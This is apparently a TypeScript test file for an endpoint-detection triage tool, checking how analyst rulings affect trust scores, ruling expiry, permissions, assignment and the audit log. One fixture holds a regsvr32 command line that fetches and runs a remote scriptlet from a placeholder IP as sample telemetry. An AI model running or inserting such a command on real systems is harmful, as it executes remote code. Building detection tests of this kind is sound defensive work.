import { beforeEach, expect, test } from 'vitest'
import { systemActor } from '@/lib/pipeline/actor'
import { pool } from '@/lib/store/pool'
import { prisma } from '@/lib/store/prisma'
import { listEndingRulings } from '@/lib/store/screens/deviations/ending-rulings'
import { parseDeviationRequest } from '@/lib/store/screens/deviations/filter'
import { loadQueue } from '@/lib/store/screens/deviations/list'
import { assignDeviation } from './assign-deviation'
import { changeAccount } from './change-account'
import { commentDeviation } from './comment-deviation'
import { examplePerson } from './example-person'
import { ingestExamples } from './ingest/example-use'
import { recompute } from './recompute/recompute'
import { triageDeviation } from './triage-deviation'
import { derived, forgetTriage, itemOf, judge, withTriageExamples } from './triage-examples'
import { undoTriage } from './undo-triage'
import { verifyAudit } from './verify-audit'

const examples = withTriageExamples()
beforeEach(forgetTriage)

const hostsWithHits = async (id: string) => {
  const { rows } = await pool().query<{ name: string; days: number }>(
    `SELECT h.name, count(DISTINCT day)::int AS days FROM deviation_hit d JOIN host h ON h.id = d.host_id
     WHERE deviation_id = $1 GROUP BY 1 ORDER BY 1`,
    [id],
  )
  return Object.fromEntries(rows.map(({ name, days }) => [name, days]))
}
async function usageOf(words: string) {
  const { rows } = await pool().query<{ trusted: boolean; score: number }>(
    `SELECT trusted, max(score_millibits)::int AS score FROM usage u JOIN signature s ON s.id = u.signature_id
     JOIN pattern p ON p.id = s.pattern_id WHERE p.pattern LIKE $1 GROUP BY trusted`,
    [`%${words}%`],
  )
  return rows
}
test('expected re-scores what it explains, and trusts it from then on', async () => {
  const { id } = await itemOf('public')
  expect(await hostsWithHits(id)).toEqual({ 'ws-1.example': 4, 'ws-2.example': 4, 'ws-3.example': 1 })
  expect(await usageOf('public')).toEqual([expect.objectContaining({ trusted: false })])
  const plan = await judge(examples().responder, 'public', { to: 'expected' })
  expect(plan).toMatchObject({
    hostIds: [expect.anything(), expect.anything(), expect.anything()],
    executions: 9,
    executionsLeft: 0,
  })
  expect(await hostsWithHits(id)).toEqual({})
  expect(await usageOf('public')).toEqual([{ trusted: true, score: 0 }])
  expect(await itemOf('public')).toMatchObject({ state: 'expected' })
})

test('expected for a group leaves the hosts outside of it as they were', async () => {
  const { id } = await itemOf('public')
  await triageDeviation(examples().groupResponder, {
    ...(await itemOf('public')),
    to: 'expected',
    scope: 'groups',
    until: null,
  })
  await recompute(pool())
  expect(Object.keys(await hostsWithHits(id))).toEqual(['ws-3.example'])
})

test('expected with an end explains nothing after it', async () => {
  const { id } = await itemOf('public')
  await judge(examples().responder, 'public', { to: 'expected', until: '2026-01-06' })
  const left = await hostsWithHits(id)
  expect(left['ws-3.example']).toBe(1)
  const { rows } = await pool().query(
    `SELECT 1 FROM usage WHERE day <= '2026-01-06' AND score_millibits >= 4000`,
  )
  expect(rows).toEqual([])
})

test('a ruling that ends soon is warned of, and what is used after its end opens again by itself', async () => {
  const ending = () => listEndingRulings({ kind: 'all' }, '2026-01-08')
  await judge(examples().responder, 'scrobj', { to: 'expected', until: '2026-03-01' })
  expect(await ending()).toEqual([])
  await judge(examples().responder, 'scrobj', { to: 'open' })
  await judge(examples().responder, 'scrobj', { to: 'expected', until: '2026-01-10' })
  const { id } = await itemOf('scrobj')
  expect(await ending()).toMatchObject([{ deviationId: id, until: '2026-01-10' }])
  const asked = parseDeviationRequest({})
  const open = async () => (await loadQueue({ kind: 'all' }, asked)).rows.map((row) => row.id)
  expect(await open()).not.toContain(id)
  await ingestExamples(pool(), [
    {
      host: 'ws-1.example',
      at: '2026-01-11T10:00:00Z',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      commandLine: 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll',
    },
  ])
  await recompute(pool())
  expect(await open()).toContain(id)
  const { rows } = await pool().query('SELECT DISTINCT day FROM deviation_hit WHERE deviation_id = $1', [id])
  expect(rows).toEqual([{ day: '2026-01-11' }])
  await pool().query("DELETE FROM execution WHERE occurred_at >= '2026-01-11'")
  await pool().query("UPDATE host_work SET dirty_from = '2026-01-11', revision = revision + 1")
  await recompute(pool())
})

test('malicious removes what it taught', async () => {
  const trusted = async () =>
    (
      await pool().query(
        `SELECT 1 FROM host_value v JOIN feature_value f ON f.id = v.value_id WHERE f.value LIKE '%public%'`,
      )
    ).rowCount
  await judge(examples().responder, 'public', { to: 'expected' })
  expect(await trusted()).toBeGreaterThan(0)
  await judge(examples().responder, 'public', { to: 'open' })
  await judge(examples().responder, 'public', { to: 'malicious' })
  expect(await trusted()).toBe(0)
  expect(await usageOf('public')).toEqual([expect.objectContaining({ trusted: false })])
  const { rows } =
    await pool().query(`SELECT DISTINCT refused FROM usage u JOIN signature s ON s.id = u.signature_id
    JOIN pattern p ON p.id = s.pattern_id WHERE p.pattern LIKE '%public%'`)
  expect(rows).toEqual([{ refused: false }])
})

test('an authorised test explains without teaching', async () => {
  const { id } = await itemOf('scrobj')
  await judge(examples().responder, 'scrobj', { to: 'authorised-test', scope: 'hosts', until: '2026-01-07' })
  expect(await hostsWithHits(id)).toEqual({})
  expect(await usageOf('scrobj')).toEqual([{ trusted: false, score: 0 }])
})

test('flagged teaches nothing', async () => {
  const before = await derived()
  expect(
    (await judge(examples().responder, 'scrobj', { to: 'flagged', note: 'who is this?' })).rulings,
  ).toEqual([])
  expect(await derived()).toEqual(before)
})

test('a judgement is taken back before another is made', async () => {
  await judge(examples().responder, 'scrobj', { to: 'malicious' })
  await expect(judge(examples().responder, 'scrobj', { to: 'expected' })).rejects.toMatchObject({
    code: 'conflict',
  })
})

test('a viewer cannot triage, assign, note or undo', async () => {
  const read = await itemOf('scrobj')
  for (const attempt of [
    triageDeviation(examples().viewer, { ...read, to: 'flagged' }),
    assignDeviation(examples().viewer, { ...read, assigneeId: examples().viewer.accountId }),
    commentDeviation(examples().viewer, { ...read, note: 'x' }),
    undoTriage(examples().viewer, read),
  ])
    await expect(attempt).rejects.toMatchObject({ code: 'forbidden' })
  expect(await itemOf('scrobj')).toEqual(read)
})

test('who sees some groups rules only there, and finds only what shows there', async () => {
  const gus = examples().groupResponder
  const read = await itemOf('public')
  await expect(
    triageDeviation(gus, { ...read, to: 'expected', scope: 'fleet', until: null }),
  ).rejects.toMatchObject({
    code: 'forbidden',
  })
  await judge(examples().responder, 'public', { to: 'expected' })
  await expect(judge(gus, 'public', { to: 'open' })).rejects.toMatchObject({ code: 'forbidden' })
  const nowhere = { ...gus, scope: { kind: 'groups' as const, groupIds: [examples().groupId + 1] } }
  await expect(
    triageDeviation(nowhere, { ...(await itemOf('public')), to: 'flagged' }),
  ).rejects.toMatchObject({
    code: 'not-found',
  })
})

test('a deviation is assigned to somebody who can triage it', async () => {
  await assignDeviation(examples().responder, {
    ...(await itemOf('scrobj')),
    assigneeId: examples().responder.accountId,
  })
  const { rows } = await pool().query('SELECT assignee_id FROM deviation WHERE assignee_id IS NOT NULL')
  expect(rows).toEqual([{ assignee_id: examples().responder.accountId }])
  const toViewer = assignDeviation(examples().responder, {
    ...(await itemOf('scrobj')),
    assigneeId: examples().viewer.accountId,
  })
  await expect(toViewer).rejects.toMatchObject({ code: 'invalid-input' })
})

test('a deviation is not assigned to somebody who sees none of its hosts', async () => {
  await examplePerson('First', 'admin')
  const blind = await examplePerson('Bea', 'responder')
  const elsewhere = await prisma().hostGroup.create({ data: { name: 'Elsewhere' } })
  await changeAccount(systemActor('test'), blind.accountId, { kind: 'host-groups', groupIds: [elsewhere.id] })
  const toBlind = assignDeviation(examples().responder, {
    ...(await itemOf('scrobj')),
    assigneeId: blind.accountId,
  })
  await expect(toBlind).rejects.toThrow('Bea sees none of the hosts')
})

test('every change is in the audit log, with what it taught', async () => {
  await judge(examples().responder, 'scrobj', { to: 'malicious', note: 'beacon' })
  await commentDeviation(examples().responder, { ...(await itemOf('scrobj')), note: 'ticket 12' })
  const { id } = await itemOf('scrobj')
  const { rows } = await pool().query(
    `SELECT actor_name, action, detail FROM audit_entry WHERE subject_kind = 'deviation' AND subject_id = $1 ORDER BY id DESC LIMIT 2`,
    [id],
  )
  expect(rows).toEqual([
    { actor_name: 'ada', action: 'deviation-noted', detail: { note: 'ticket 12' } },
    {
      actor_name: 'ada',
      action: 'deviation-triaged',
      detail: expect.objectContaining({
        from: 'open',
        to: 'malicious',
        note: 'beacon',
        hosts: 1,
        executions: 1,
      }),
    },
  ])
  expect(await verifyAudit(systemActor('test'))).toMatchObject({ intact: true })
})
